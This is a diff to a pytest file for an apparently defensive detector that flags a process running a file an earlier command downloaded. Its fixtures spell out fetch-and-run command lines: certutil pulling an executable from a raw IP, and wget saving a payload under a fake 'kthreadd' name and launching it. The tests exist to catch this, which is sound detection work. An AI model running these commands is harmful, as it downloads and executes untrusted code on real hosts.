@@ -8,7 +8,7 @@ import polars as pl
 import pytest
 from prevalence_tables import NOTHING_LIKE_IT, START, anomaly
 
-from longtail.prevalence.incidents import Row, acts, grouped, runs_what_it_wrote, score, scored, things_told
+from longtail.prevalence.incidents import Row, acts, grouped, score, scored, things_told, told_earlier
 from longtail.prevalence.likeness import Likeness
 
 WHOAMI = r"\windows\system32\whoami.exe"
@@ -177,8 +177,8 @@ def test_running_what_an_earlier_command_fetched_is_noticed() -> None:
         r"\windows\system32\certutil.exe", r"certutil -urlcache -f http://1.2.3.4/Svn.exe c:\users\public\Svn.exe"
     )
     run = anomaly(SVN, r"c:\users\public\svn.exe -quiet", **DROPPED)
-    assert runs_what_it_wrote([fetch, run])
-    assert not runs_what_it_wrote([run, fetch])
+    assert told_earlier([fetch, run, run]) == [None, 0, 0]
+    assert told_earlier([run, fetch]) == [None, None]
     assert worth(fetch, run) > worth(run, fetch)
 
 
@@ -186,9 +186,9 @@ def test_one_shell_line_that_fetches_and_runs_is_noticed_by_its_own_starts() -> 
     line = "sh -c wget -q a.example/x -O /var/tmp/kthreadd; /var/tmp/kthreadd"
     program = {"executable": "/var/tmp/kthreadd", "name": "kthreadd", "zone": "unix-temp"}
     carried = [anomaly("/usr/bin/wget", line, hosted_by="sh"), anomaly("", line, hosted_by="sh", **program)]
-    assert not runs_what_it_wrote(carried)
+    assert told_earlier(carried) == [None, None]
     fetched = anomaly("/usr/bin/wget", "wget -q a.example/x -O /var/tmp/kthreadd")
-    assert runs_what_it_wrote([*carried, fetched, anomaly("", "/var/tmp/kthreadd", **program)])
+    assert told_earlier([*carried, fetched, anomaly("", "/var/tmp/kthreadd", **program)]) == [None, None, None, 2]
 
 
 @pytest.mark.parametrize(
@@ -202,4 +202,4 @@ def test_one_shell_line_that_fetches_and_runs_is_noticed_by_its_own_starts() -> 
     ],
 )
 def test_what_was_there_before_was_not_written(story: list[Row]) -> None:
-    assert not runs_what_it_wrote(story)
+    assert not any(each is not None for each in told_earlier(story))
